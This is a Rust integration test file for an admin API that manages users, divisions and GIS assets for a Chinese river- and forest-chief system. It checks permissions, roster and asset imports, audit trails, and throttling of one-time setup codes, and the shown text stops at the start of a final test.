//! The admin API: every call as an admin, and every call refused for everyone else.

use serde_json::{json, Value};
use server::demo::{ADMIN, CHIEF, FIELD_CHIEF, HANDLER, SUPERVISOR};

use crate::harness::TestServer;

fn line(points: &[[f64; 2]]) -> Value {
    json!({"type": "LineString", "coordinates": points})
}

#[actix_web::test]
async fn users_can_be_created_changed_deactivated_and_reset() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;

    let users = s.get("/api/v1/admin/users", &admin).await;
    let users = users.expect_ok().as_array().unwrap().clone();
    assert_eq!(users.len(), server::demo::facts().people.len());
    assert!(users
        .iter()
        .any(|u| u["user"]["username"] == CHIEF && u["has_password"] == true));
    assert!(users
        .iter()
        .any(|u| u["user"]["username"] == "tq-river-chief" && u["has_password"] == false));

    let role = json!({"kind": "chief", "system": "river", "level": "village",
        "jurisdiction": {"division": "370105014204", "assets": ["river-thh-04"]}});
    let created = s
        .post("/api/v1/admin/users", &admin, json!({"username": "new-chief", "display_name": "石门孙村河长", "password": "s3cret-pass", "role": role}))
        .await;
    assert_eq!(created.status.as_u16(), 201, "{}", created.body);
    let id = created.body["user"]["id"].as_str().unwrap().to_owned();
    assert_eq!(created.body["user"]["active"], true);
    s.post("/api/v1/admin/users", &admin, json!({"username": "NEW-chief", "display_name": "x", "password": "s3cret-pass", "role": {"kind": "admin"}}))
        .await
        .expect_error(409, "conflict");
    s.post("/api/v1/admin/users", &admin, json!({"username": "short-pw", "display_name": "x", "password": "1234", "role": {"kind": "admin"}}))
        .await
        .expect_error(400, "bad_request");
    let wrong_level = json!({"kind": "chief", "system": "river", "level": "subdistrict",
        "jurisdiction": {"division": "370105014204", "assets": []}});
    s.post("/api/v1/admin/users", &admin, json!({"username": "lvl", "display_name": "x", "password": "s3cret-pass", "role": wrong_level}))
        .await
        .expect_error(400, "bad_request");
    let wrong_system = json!({"kind": "chief", "system": "forest", "level": "village",
        "jurisdiction": {"division": "370105014204", "assets": ["river-thh-04"]}});
    s.post("/api/v1/admin/users", &admin, json!({"username": "sys", "display_name": "x", "password": "s3cret-pass", "role": wrong_system}))
        .await
        .expect_error(400, "bad_request");

    let login = s.login_reply("new-chief", "s3cret-pass", "p1").await;
    let login = login.expect_ok();
    let chief_token = login["access_token"].as_str().unwrap().to_owned();
    let chief_refresh = login["refresh_token"].as_str().unwrap().to_owned();

    let fetched = s.get(&format!("/api/v1/admin/users/{id}"), &admin).await;
    assert_eq!(fetched.expect_ok()["user"]["username"], "new-chief");

    let supervisor_role =
        json!({"kind": "supervisor", "system": "field", "division": "370105014000"});
    let patched = s
        .request(
            "PATCH",
            &format!("/api/v1/admin/users/{id}"),
            Some(&admin),
            Some(json!({"display_name": "桑梓店田长办", "role": supervisor_role})),
        )
        .await;
    let patched = patched.expect_ok();
    assert_eq!(patched["user"]["display_name"], "桑梓店田长办");
    assert_eq!(patched["user"]["role"]["kind"], "supervisor");
    let me = s.get("/api/v1/me", &chief_token).await;
    assert_eq!(
        me.expect_ok()["user"]["role"]["kind"],
        "supervisor",
        "role changes apply at once"
    );
    s.request(
        "PATCH",
        &format!("/api/v1/admin/users/{id}"),
        Some(&admin),
        Some(
            json!({"role": {"kind": "supervisor", "system": "field", "division": "370105099000"}}),
        ),
    )
    .await
    .expect_error(400, "bad_request");
    s.request(
        "PATCH",
        "/api/v1/admin/users/u-nobody",
        Some(&admin),
        Some(json!({"display_name": "x"})),
    )
    .await
    .expect_error(404, "not_found");

    let reset = s
        .post(
            &format!("/api/v1/admin/users/{id}/password"),
            &admin,
            json!({"password": "another-pass"}),
        )
        .await;
    assert_eq!(reset.status.as_u16(), 204, "{}", reset.body);
    // Whoever knew the old password is signed out everywhere: access and refresh tokens die.
    s.get("/api/v1/me", &chief_token)
        .await
        .expect_error(401, "device_revoked");
    s.request(
        "POST",
        "/api/v1/auth/refresh",
        None,
        Some(json!({"refresh_token": chief_refresh})),
    )
    .await
    .expect_error(401, "device_revoked");
    s.login_reply("new-chief", "s3cret-pass", "p1")
        .await
        .expect_error(401, "invalid_credentials");
    s.login_reply("new-chief", "another-pass", "p1")
        .await
        .expect_ok();
    s.post(
        &format!("/api/v1/admin/users/{id}/password"),
        &admin,
        json!({"password": "short"}),
    )
    .await
    .expect_error(400, "bad_request");

    let devices = s
        .get(&format!("/api/v1/admin/devices?user_id={id}"), &admin)
        .await;
    let devices = devices.expect_ok().as_array().unwrap().clone();
    assert_eq!(devices.len(), 1);
    assert_eq!(devices[0]["device_id"], "p1");
    assert_eq!(devices[0]["actor_id"].as_str().unwrap().len(), 32);
    let all = s.get("/api/v1/admin/devices", &admin).await;
    assert_eq!(
        all.expect_ok().as_array().unwrap().len(),
        2,
        "admin's pc and new-chief's p1"
    );

    let deactivated = s
        .post(
            &format!("/api/v1/admin/users/{id}/deactivate"),
            &admin,
            json!({}),
        )
        .await;
    assert_eq!(deactivated.expect_ok()["user"]["active"], false);
    s.login_reply("new-chief", "another-pass", "p1")
        .await
        .expect_error(401, "user_inactive");
    s.post(
        "/api/v1/admin/users/u-demo-admin/deactivate",
        &admin,
        json!({}),
    )
    .await
    .expect_error(409, "conflict");
    let reactivated = s
        .request(
            "PATCH",
            &format!("/api/v1/admin/users/{id}"),
            Some(&admin),
            Some(json!({"active": true})),
        )
        .await;
    assert_eq!(reactivated.expect_ok()["user"]["active"], true);
    s.login_reply("new-chief", "another-pass", "p1")
        .await
        .expect_ok();
}

#[actix_web::test]
async fn divisions_and_assets_can_be_created_and_edited() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;

    let divisions = s.get("/api/v1/admin/divisions", &admin).await;
    assert_eq!(divisions.expect_ok().as_array().unwrap().len(), 23);
    let new_village = json!({"code": "370105014209", "name": "新村", "parent": "370105014000"});
    let created = s
        .post("/api/v1/admin/divisions", &admin, new_village.clone())
        .await;
    assert_eq!(created.status.as_u16(), 201, "{}", created.body);
    s.post("/api/v1/admin/divisions", &admin, new_village)
        .await
        .expect_error(409, "conflict");
    s.post(
        "/api/v1/admin/divisions",
        &admin,
        json!({"code": "370105013201", "name": "x", "parent": "370105014000"}),
    )
    .await
    .expect_error(400, "bad_request");
    s.post(
        "/api/v1/admin/divisions",
        &admin,
        json!({"code": "3701", "name": "x", "parent": null}),
    )
    .await
    .expect_error(400, "bad_request");
    let renamed = s
        .request(
            "PUT",
            "/api/v1/admin/divisions/370105014209",
            Some(&admin),
            Some(json!({"name": "新村社区", "parent": "370105014000"})),
        )
        .await;
    assert_eq!(renamed.expect_ok()["name"], "新村社区");
    s.request(
        "PUT",
        "/api/v1/admin/divisions/370105014299",
        Some(&admin),
        Some(json!({"name": "x", "parent": "370105014000"})),
    )
    .await
    .expect_error(404, "not_found");

    let assets = s.get("/api/v1/admin/assets", &admin).await;
    let count = assets.expect_ok().as_array().unwrap().len();
    let asset = json!({"id": "river-new-01", "system": "river", "name": "新河 第1段", "division": "370105014209",
        "geometry": line(&[[116.95, 36.82], [116.96, 36.825]])});
    let created = s.post("/api/v1/admin/assets", &admin, asset.clone()).await;
    assert_eq!(created.status.as_u16(), 201, "{}", created.body);
    assert_eq!(created.body["geometry"]["type"], "LineString");
    s.post("/api/v1/admin/assets", &admin, asset)
        .await
        .expect_error(409, "conflict");
    s.post(
        "/api/v1/admin/assets",
        &admin,
        json!({"id": "bad", "system": "river", "name": "x", "division": "370105014209",
        "geometry": line(&[[116.95, 36.82]])}),
    )
    .await
    .expect_error(400, "bad_request");
    s.post("/api/v1/admin/assets", &admin, json!({"id": "open", "system": "forest", "name": "x", "division": "370105014209",
        "geometry": {"type": "Polygon", "coordinates": [[[116.9, 36.8], [116.91, 36.8], [116.91, 36.81], [116.9, 36.81]]]}}))
        .await
        .expect_error(400, "bad_request");
    s.post(
        "/api/v1/admin/assets",
        &admin,
        json!({"id": "nowhere", "system": "river", "name": "x", "division": "370105099000",
        "geometry": line(&[[116.95, 36.82], [116.96, 36.825]])}),
    )
    .await
    .expect_error(400, "bad_request");
    s.post(
        "/api/v1/admin/assets",
        &admin,
        json!({"id": "point", "system": "river", "name": "x", "division": "370105014209",
        "geometry": {"type": "Point", "coordinates": [116.95, 36.82]}}),
    )
    .await
    .expect_error(400, "bad_request");
    let square = json!({"type": "Polygon", "coordinates": [[[116.95, 36.82], [116.96, 36.82], [116.96, 36.83], [116.95, 36.82]]]});
    let edited = s
        .request("PUT", "/api/v1/admin/assets/river-new-01", Some(&admin), Some(json!({"system": "field", "name": "新村耕地", "division": "370105014209", "geometry": square})))
        .await;
    let edited = edited.expect_ok();
    assert_eq!(edited["system"], "field");
    assert_eq!(edited["geometry"]["type"], "Polygon");
    let assets = s.get("/api/v1/admin/assets", &admin).await;
    assert_eq!(assets.expect_ok().as_array().unwrap().len(), count + 1);
}

#[actix_web::test]
async fn every_admin_call_is_refused_for_non_admins() {
    let s = TestServer::demo().await;
    let calls: Vec<(&str, &str, Option<Value>)> = vec![
        ("GET", "/api/v1/admin/users", None),
        (
            "POST",
            "/api/v1/admin/users",
            Some(
                json!({"username": "x-user", "display_name": "x", "password": "s3cret-pass", "role": {"kind": "admin"}}),
            ),
        ),
        ("GET", "/api/v1/admin/users/u-demo-chief", None),
        (
            "PATCH",
            "/api/v1/admin/users/u-demo-chief",
            Some(json!({"display_name": "x"})),
        ),
        (
            "POST",
            "/api/v1/admin/users/u-demo-chief/deactivate",
            Some(json!({})),
        ),
        (
            "POST",
            "/api/v1/admin/users/u-demo-chief/password",
            Some(json!({"password": "s3cret-pass"})),
        ),
        ("GET", "/api/v1/admin/devices", None),
        ("GET", "/api/v1/admin/divisions", None),
        (
            "POST",
            "/api/v1/admin/divisions",
            Some(json!({"code": "370105014210", "name": "x", "parent": "370105014000"})),
        ),
        (
            "PUT",
            "/api/v1/admin/divisions/370105014201",
            Some(json!({"name": "x", "parent": "370105014000"})),
        ),
        ("GET", "/api/v1/admin/assets", None),
        (
            "POST",
            "/api/v1/admin/assets",
            Some(
                json!({"id": "x", "system": "river", "name": "x", "division": "370105014201", "geometry": line(&[[116.95, 36.82], [116.96, 36.825]])}),
            ),
        ),
        (
            "PUT",
            "/api/v1/admin/assets/river-thh-01",
            Some(
                json!({"system": "river", "name": "x", "division": "370105014201", "geometry": line(&[[116.95, 36.82], [116.96, 36.825]])}),
            ),
        ),
    ];
    for who in [SUPERVISOR, CHIEF, FIELD_CHIEF, HANDLER] {
        let token = s.token(who, "phone").await;
        for (method, path, body) in &calls {
            let reply = s.request(method, path, Some(&token), body.clone()).await;
            assert_eq!(
                reply.status.as_u16(),
                403,
                "{who} {method} {path}: {}",
                reply.body
            );
            assert_eq!(reply.body["error"], "forbidden");
        }
    }
    for (method, path, body) in &calls {
        let reply = s.request(method, path, None, body.clone()).await;
        assert_eq!(reply.status.as_u16(), 401, "anonymous {method} {path}");
    }
    // Nothing was changed by the refused calls.
    let admin = s.token(ADMIN, "pc").await;
    let chief = s.get("/api/v1/admin/users/u-demo-chief", &admin).await;
    assert_eq!(
        chief.expect_ok()["user"]["display_name"],
        "小寨村河长 张建国"
    );
    assert_eq!(chief.body["user"]["active"], true);
}

// ---- setting a district up from files ----------------------------------------------------

/// Posts raw file bytes to an import endpoint as `token`; status and JSON body.
async fn upload(s: &TestServer, path: &str, token: &str, bytes: Vec<u8>) -> (u16, Value) {
    // awc's default 5 s is too short for a 16 MiB file while other tests load the machine.
    let mut res = awc::Client::builder()
        .timeout(std::time::Duration::from_secs(120))
        .finish()
        .post(format!("{}/api/v1{path}", s.base))
        .insert_header(("Authorization", format!("Bearer {token}")))
        .insert_header(("Content-Type", "application/octet-stream"))
        .send_body(bytes)
        .await
        .unwrap();
    let body = res.body().limit(64 * 1024 * 1024).await.unwrap();
    (
        res.status().as_u16(),
        serde_json::from_slice(&body).unwrap_or(Value::Null),
    )
}

async fn download(s: &TestServer, path: &str, token: &str) -> Vec<u8> {
    let mut res = awc::Client::default()
        .get(format!("{}/api/v1{path}", s.base))
        .insert_header(("Authorization", format!("Bearer {token}")))
        .send()
        .await
        .unwrap();
    assert!(res.status().is_success(), "{path}: {}", res.status());
    res.body().limit(64 * 1024 * 1024).await.unwrap().to_vec()
}

fn csv_roster(rows: &[[&str; 7]]) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(sync_core::import::roster::COLUMNS).unwrap();
    for r in rows {
        w.write_record(r).unwrap();
    }
    w.into_inner().unwrap()
}

fn outcomes(report: &Value) -> Vec<String> {
    report["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["outcome"].as_str().unwrap().to_owned())
        .collect()
}

fn reasons(report: &Value, i: usize) -> String {
    report["rows"][i]["reasons"]
        .as_array()
        .map(|r| {
            r.iter()
                .map(|x| x.as_str().unwrap())
                .collect::<Vec<_>>()
                .join("；")
        })
        .unwrap_or_default()
}

async fn user_count(s: &TestServer, admin: &str) -> usize {
    s.get("/api/v1/admin/users", admin)
        .await
        .expect_ok()
        .as_array()
        .unwrap()
        .len()
}

#[actix_web::test]
async fn a_roster_with_bad_rows_is_reported_row_by_row_and_nothing_is_applied() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let users_before = user_count(&s, &admin).await;
    let audit_before = s
        .get("/api/v1/admin/audit", &admin)
        .await
        .expect_ok()
        .as_array()
        .unwrap()
        .len();
    let good = [
        "王河",
        "街道办主任",
        "街道级",
        "河长",
        "桑梓店街道",
        "",
        "13900000001",
    ];
    let roster = csv_roster(&[
        good,
        [
            "李无区",
            "",
            "街道级",
            "河长",
            "不存在街道",
            "",
            "13900000002",
        ],
        [
            "赵无河",
            "",
            "区级",
            "河长",
            "天桥区",
            "不存在的河段",
            "13900000003",
        ],
        ["王河", "", "街道级", "河长", "北园街道", "", "13900000001"],
        ["钱错级", "", "村级", "河长", "北园街道", "", "13900000004"],
        ["孙错号", "", "村级", "林长", "小寨村", "", "1390"],
    ]);
    let (status, dry) = upload(&s, "/admin/import/roster", &admin, roster.clone()).await;
    assert_eq!(status, 200, "{dry}");
    assert_eq!(dry["applied"], false);
    assert_eq!(
        outcomes(&dry),
        ["create", "refused", "refused", "refused", "refused", "refused"]
    );
    assert!(reasons(&dry, 1).contains("未登记"), "{}", reasons(&dry, 1));
    assert!(reasons(&dry, 2).contains("“不存在的河段”未登记"));
    assert!(reasons(&dry, 3).contains("同一人"));
    assert!(reasons(&dry, 4).contains("不符"));
    assert!(reasons(&dry, 5).contains("11位"));
    assert_eq!(
        dry["rows"][1]["row"], 3,
        "spreadsheet row numbers, header counted"
    );

    // Applying the file is refused as a whole: not even the good row is stored.
    let (status, body) = upload(&s, "/admin/import/roster?dry_run=false", &admin, roster).await;
    assert_eq!(status, 422, "{body}");
    assert_eq!(body["error"], "import_refused");
    assert_eq!(user_count(&s, &admin).await, users_before);
    let audit_after = s
        .get("/api/v1/admin/audit", &admin)
        .await
        .expect_ok()
        .as_array()
        .unwrap()
        .len();
    assert_eq!(
        audit_after, audit_before,
        "nothing audited, nothing changed"
    );

    // A file that is not the template is refused before any row.
    let (status, body) = upload(
        &s,
        "/admin/import/roster",
        &admin,
        "姓名,电话\n张三,1\n".into(),
    )
    .await;
    assert_eq!(status, 422, "{body}");
    // Only administrators import.
    let supervisor = s.token(SUPERVISOR, "pc").await;
    let (status, _) = upload(&s, "/admin/import/roster", &supervisor, csv_roster(&[good])).await;
    assert_eq!(status, 403);
    s.stop().await;
}

#[actix_web::test]
async fn a_roster_applies_once_and_again_changes_nothing_and_a_move_is_a_change() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let facts = server::demo::facts();
    let river_in_sangzidian = facts
        .assets
        .iter()
        .find(|a| {
            a.system == sync_core::model::System::River
                && a.division.as_str().starts_with("370105014")
        })
        .unwrap()
        .name
        .clone();
    let rows = [
        [
            "王河",
            "街道办主任",
            "街道级",
            "河长",
            "桑梓店街道",
            river_in_sangzidian.as_str(),
            "13900000011",
        ],
        [
            "周林",
            "村支书",
            "村级",
            "林长",
            "桑梓店街道/小寨村",
            "",
            "13900000012",
        ],
    ];
    let users_before = user_count(&s, &admin).await;
    let (status, applied) = upload(
        &s,
        "/admin/import/roster?dry_run=false",
        &admin,
        csv_roster(&rows),
    )
    .await;
    assert_eq!(status, 200, "{applied}");
    assert_eq!(applied["applied"], true);
    assert_eq!(applied["summary"]["create"], 2);
    assert_eq!(applied["setup_codes"].as_array().unwrap().len(), 2);
    assert_eq!(user_count(&s, &admin).await, users_before + 2);

    // The same file again: every row unchanged, nothing written.
    let (_, again) = upload(
        &s,
        "/admin/import/roster?dry_run=false",
        &admin,
        csv_roster(&rows),
    )
    .await;
    assert_eq!(outcomes(&again), ["unchanged", "unchanged"], "{again}");
    assert!(again["setup_codes"].as_array().unwrap().is_empty());
    assert_eq!(user_count(&s, &admin).await, users_before + 2);

    // The exported roster (demo chiefs included) re-imports as unchanged, as XLSX.
    let exported = download(&s, "/admin/roster/export", &admin).await;
    assert!(exported.starts_with(b"PK"));
    let (status, round) = upload(&s, "/admin/import/roster", &admin, exported).await;
    assert_eq!(status, 200, "{round}");
    assert_eq!(round["summary"]["refused"], 0, "{round}");
    assert_eq!(round["summary"]["create"], 0);
    assert_eq!(round["summary"]["change"], 0);
    assert!(round["summary"]["unchanged"].as_u64().unwrap() >= 3);
    let exported_csv = download(&s, "/admin/roster/export?format=csv", &admin).await;
    assert!(String::from_utf8_lossy(&exported_csv).contains("王河"));
    let (_, round_csv) = upload(&s, "/admin/import/roster", &admin, exported_csv).await;
    assert_eq!(round_csv["summary"], round["summary"], "{round_csv}");

    // A chief moved to another post: a change with before and after, audited.
    let moved = [[
        "王河",
        "街道办主任",
        "街道级",
        "河长",
        "北园街道",
        "",
        "13900000011",
    ]];
    let (_, change) = upload(
        &s,
        "/admin/import/roster?dry_run=false",
        &admin,
        csv_roster(&moved),
    )
    .await;
    assert_eq!(outcomes(&change), ["change"], "{change}");
    assert_eq!(change["rows"][0]["before"]["division_name"], "桑梓店街道");
    assert_eq!(change["rows"][0]["after"]["division_name"], "北园街道");
    let audit = s
        .get("/api/v1/admin/audit", &admin)
        .await
        .expect_ok()
        .clone();
    let newest = &audit[0];
    assert_eq!(newest["action"], "roster_change");
    assert_eq!(newest["by_name"], facts.user(ADMIN).unwrap().display_name);
    assert_eq!(newest["before"]["division_name"], "桑梓店街道");
    assert_eq!(
        newest["after"]["role"]["jurisdiction"]["division"],
        "370105012000"
    );

    // The template has the Chinese titles and nothing else on its first sheet.
    let template = download(&s, "/admin/roster/template.xlsx", &admin).await;
    use calamine::Reader;
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(template)).unwrap();
    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
    let header: Vec<String> = sheet
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(header, sync_core::import::roster::COLUMNS);
    assert_eq!(sheet.height(), 1);
    s.stop().await;
}

fn feature(name: &str, system: &str, division: &str, geometry: Value) -> Value {
    json!({"type": "Feature", "properties": {"名称": name, "体系": system, "行政区划": division}, "geometry": geometry})
}

#[actix_web::test]
async fn assets_state_their_coordinates_gcj02_is_converted_and_bad_geometry_refuses_the_file() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let gps = [[116.975, 36.805], [116.985, 36.812]];
    let gcj: Vec<[f64; 2]> = gps
        .iter()
        .map(|p| sync_core::import::coords::wgs84_to_gcj02(*p))
        .collect();
    let good = feature("新开河桑梓店段", "河长", "桑梓店街道", line(&gcj));
    let open_ring = feature(
        "坏林区",
        "林长",
        "桑梓店街道",
        json!({"type": "Polygon", "coordinates": [[[116.95, 36.80], [116.96, 36.80], [116.96, 36.81], [116.95, 36.81]]]}),
    );
    let nowhere = feature("无区划河段", "河长", "不存在街道", line(&gps));
    let file = |features: Vec<Value>| {
        serde_json::to_vec(&json!({"type": "FeatureCollection", "features": features})).unwrap()
    };
    let assets_before = s
        .get("/api/v1/admin/assets", &admin)
        .await
        .expect_ok()
        .as_array()
        .unwrap()
        .len();

    // The coordinate system must be stated.
    let (status, _) = upload(&s, "/admin/import/assets", &admin, file(vec![good.clone()])).await;
    assert_eq!(status, 400);
    let (status, dry) = upload(
        &s,
        "/admin/import/assets?crs=gcj02",
        &admin,
        file(vec![good.clone(), open_ring, nowhere]),
    )
    .await;
    assert_eq!(status, 200, "{dry}");
    assert_eq!(outcomes(&dry), ["create", "refused", "refused"]);
    assert!(
        reasons(&dry, 1).contains("几何无效"),
        "{}",
        reasons(&dry, 1)
    );
    assert!(reasons(&dry, 2).contains("未登记"));
    let (status, _) = upload(
        &s,
        "/admin/import/assets?crs=gcj02&dry_run=false",
        &admin,
        file(vec![
            good.clone(),
            feature("坏", "林长", "桑梓店街道", Value::Null),
        ]),
    )
    .await;
    assert_eq!(status, 422);
    assert_eq!(
        s.get("/api/v1/admin/assets", &admin)
            .await
            .expect_ok()
            .as_array()
            .unwrap()
            .len(),
        assets_before
    );

    let (status, applied) = upload(
        &s,
        "/admin/import/assets?crs=gcj02&dry_run=false",
        &admin,
        file(vec![good.clone()]),
    )
    .await;
    assert_eq!(status, 200, "{applied}");
    let id = applied["rows"][0]["after"]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let stored = s
        .get("/api/v1/admin/assets", &admin)
        .await
        .expect_ok()
        .clone();
    let asset = stored
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == id.as_str())
        .unwrap();
    for (i, p) in gps.iter().enumerate() {
        let got = &asset["geometry"]["coordinates"][i];
        let d = sync_core::geo::haversine_m(
            p[1],
            p[0],
            got[1].as_f64().unwrap(),
            got[0].as_f64().unwrap(),
        );
        assert!(d < 0.1, "stored {d} m from the GPS position");
    }
    // Importing the same file again changes nothing; as WGS-84 the same numbers are a change.
    let (_, again) = upload(
        &s,
        "/admin/import/assets?crs=gcj02&dry_run=false",
        &admin,
        file(vec![good.clone()]),
    )
    .await;
    assert_eq!(outcomes(&again), ["unchanged"]);
    let (_, as_wgs) = upload(
        &s,
        "/admin/import/assets?crs=wgs84",
        &admin,
        file(vec![good]),
    )
    .await;
    assert_eq!(outcomes(&as_wgs), ["change"]);
    s.stop().await;
}

#[actix_web::test]
async fn divisions_import_from_a_code_list() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let list = "代码,名称\n370105014209,新建村\n370105099201,孤村\n"
        .as_bytes()
        .to_vec();
    let (_, dry) = upload(&s, "/admin/import/divisions", &admin, list).await;
    assert_eq!(outcomes(&dry), ["create", "refused"], "{dry}");
    let list = "代码,名称\n370105014209,新建村\n370105014201,小寨村\n"
        .as_bytes()
        .to_vec();
    let (status, applied) = upload(&s, "/admin/import/divisions?dry_run=false", &admin, list).await;
    assert_eq!(status, 200, "{applied}");
    assert_eq!(outcomes(&applied), ["create", "unchanged"]);
    let divisions = s
        .get("/api/v1/admin/divisions", &admin)
        .await
        .expect_ok()
        .clone();
    let new = divisions
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["code"] == "370105014209")
        .unwrap();
    assert_eq!(new["parent"], "370105014000");
    s.stop().await;
}

#[actix_web::test]
async fn a_setup_code_sets_the_first_password_once_and_wrong_codes_are_throttled() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let rows = [
        ["吴启", "", "街道级", "河长", "北园街道", "", "13900000021"],
        ["郑迟", "", "街道级", "河长", "北园街道", "", "13900000022"],
    ];
    let (_, applied) = upload(
        &s,
        "/admin/import/roster?dry_run=false",
        &admin,
        csv_roster(&rows),
    )
    .await;
    let code = |i: usize| {
        applied["setup_codes"][i]["code"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let setup = |username: &str, code: &str, password: &str| json!({"username": username, "code": code, "password": password, "device_id": "first-phone"});
    // No password until the code is used: logging in fails.
    s.login_reply("13900000021", "whatever-pass", "p")
        .await
        .expect_error(401, "invalid_credentials");
    // The code is not stored readable.
    let stored = s.state.store.list_meta("setup.code/").unwrap();
    assert!(stored
        .iter()
        .all(|(_, v)| !String::from_utf8_lossy(v).contains(&code(0))));

    let post = |body: Value| s.request("POST", "/api/v1/auth/setup", None, Some(body));
    post(setup("13900000021", "2222-3333-4444", "my-own-pass"))
        .await
        .expect_error(401, "invalid_setup_code");
    post(setup("13900000021", &code(0), "short"))
        .await
        .expect_error(400, "bad_request");
    post(setup("13900000021", &code(1), "my-own-pass"))
        .await
        .expect_error(401, "invalid_setup_code");
    let grant = post(setup("13900000021", &code(0).to_lowercase(), "my-own-pass")).await;
    let grant = grant.expect_ok();
    assert_eq!(grant["user"]["display_name"], "吴启");
    assert!(grant["access_token"].is_string());
    // Used once; the chosen password now works.
    post(setup("13900000021", &code(0), "other-pass-1"))
        .await
        .expect_error(401, "invalid_setup_code");
    let old_session = s
        .login_reply("13900000021", "my-own-pass", "p2")
        .await
        .expect_ok()["access_token"]
        .as_str()
        .unwrap()
        .to_owned();
    s.get("/api/v1/me", &old_session).await.expect_ok();
    // A new code for someone with a password is a reset: using it ends their other sessions.
    let first = s
        .state
        .store
        .find_user_by_username("13900000021")
        .unwrap()
        .unwrap();
    let reset = s
        .post(
            &format!("/api/v1/admin/users/{}/setup-code", first.user.id),
            &admin,
            json!({}),
        )
        .await;
    let reset = reset.expect_ok()["code"].as_str().unwrap().to_owned();
    post(setup("13900000021", &reset, "a-newer-pass"))
        .await
        .expect_ok();
    assert_eq!(s.get("/api/v1/me", &old_session).await.status.as_u16(), 401);
    s.login_reply("13900000021", "my-own-pass", "p3")
        .await
        .expect_error(401, "invalid_credentials");

    // An expired code is refused like a wrong one.
    let user = s
        .state
        .store
        .find_user_by_username("13900000022")
        .unwrap()
        .unwrap();
    let key = format!("setup.code/{}", user.user.id);
    let mut record: Value =
        serde_json::from_slice(&s.state.store.get_meta(&key).unwrap().unwrap()).unwrap();
    record["expires_at_ms"] = json!(server::state::now_ms() - 1);
    s.state
        .store
        .put_meta(&key, &serde_json::to_vec(&record).unwrap())
        .unwrap();
    post(setup("13900000022", &code(1), "my-own-pass"))
        .await
        .expect_error(401, "invalid_setup_code");
    // A new code from the office works; guessing is throttled like passwords.
    let fresh = s
        .post(
            &format!("/api/v1/admin/users/{}/setup-code", user.user.id),
            &admin,
            json!({}),
        )
        .await;
    let fresh = fresh.expect_ok()["code"].as_str().unwrap().to_owned();
    let mut limited = false;
    for _ in 0..8 {
        let r = post(setup("13900000022", "ZZZZ-ZZZZ-ZZZZ", "my-own-pass")).await;
        if r.status.as_u16() == 429 {
            limited = true;
            break;
        }
        r.expect_error(401, "invalid_setup_code");
    }
    assert!(limited, "wrong codes are throttled");
    // While throttled, even the right code waits.
    assert_eq!(
        post(setup("13900000022", &fresh, "my-own-pass"))
            .await
            .status
            .as_u16(),
        429
    );
    s.stop().await;
}

#[actix_web::test]
async fn every_admin_change_is_audited_with_before_and_after() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let chief = s.state.store.find_user_by_username(CHIEF).unwrap().unwrap();
    let role = json!({"kind": "chief", "system": "river", "level": "subdistrict",
        "jurisdiction": {"division": "370105012000", "assets": []}});
    s.request(
        "PATCH",
        &format!("/api/v1/admin/users/{}", chief.user.id),
        Some(&admin),
        Some(json!({"role": role})),
    )
    .await
    .expect_ok();
    let audit = s
        .get("/api/v1/admin/audit", &admin)
        .await
        .expect_ok()
        .clone();
    let entry = &audit[0];
    assert_eq!(entry["action"], "user_update");
    assert_eq!(entry["target"], chief.user.display_name);
    assert_eq!(
        entry["before"]["role"],
        serde_json::to_value(&chief.user.role).unwrap()
    );
    assert_eq!(entry["after"]["role"], role);
    assert!(entry["at_ms"].as_i64().unwrap() > 0);
    // Only administrators read it.
    s.get("/api/v1/admin/audit", &s.token(FIELD_CHIEF, "p").await)
        .await
        .expect_error(403, "forbidden");
    s.get("/api/v1/admin/audit", &s.token(HANDLER, "p").await)
        .await
        .expect_error(403, "forbidden");
    s.stop().await;
}

/// A Shapefile layer as an office would zip it: `.shp`, `.shx`, `.dbf` (GBK, as Chinese GIS
/// tools write it) and `.cpg`.
fn zipped_shapefile(features: &[(&str, &str, &str, shapefile::Shape)]) -> Vec<u8> {
    use shapefile::dbase::{self, FieldValue};
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let shp = dir.path().join("资产.shp");
    let table = dbase::TableWriterBuilder::with_encoding(dbase::encoding::EncodingRs::from(
        encoding_rs::GBK,
    ))
    .add_character_field("名称".try_into().unwrap(), 60)
    .add_character_field("体系".try_into().unwrap(), 10)
    .add_character_field("区划".try_into().unwrap(), 40);
    {
        let mut writer = shapefile::Writer::from_path(&shp, table).unwrap();
        for (name, system, division, shape) in features {
            let mut record = dbase::Record::default();
            record.insert("名称".into(), FieldValue::Character(Some((*name).into())));
            record.insert("体系".into(), FieldValue::Character(Some((*system).into())));
            record.insert(
                "区划".into(),
                FieldValue::Character(Some((*division).into())),
            );
            match shape {
                shapefile::Shape::Polyline(line) => {
                    writer.write_shape_and_record(line, &record).unwrap()
                }
                shapefile::Shape::Polygon(polygon) => {
                    writer.write_shape_and_record(polygon, &record).unwrap()
                }
                other => panic!("not used here: {other}"),
            }
        }
    }
    std::fs::write(shp.with_extension("cpg"), "GBK").unwrap();
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for ext in ["shp", "shx", "dbf", "cpg"] {
        zip.start_file(
            format!("资产.{ext}"),
            zip::write::SimpleFileOptions::default(),
        )
        .unwrap();
        zip.write_all(&std::fs::read(shp.with_extension(ext)).unwrap())
            .unwrap();
    }
    zip.finish().unwrap().into_inner()
}

#[actix_web::test]
async fn a_zipped_shapefile_imports_like_geojson() {
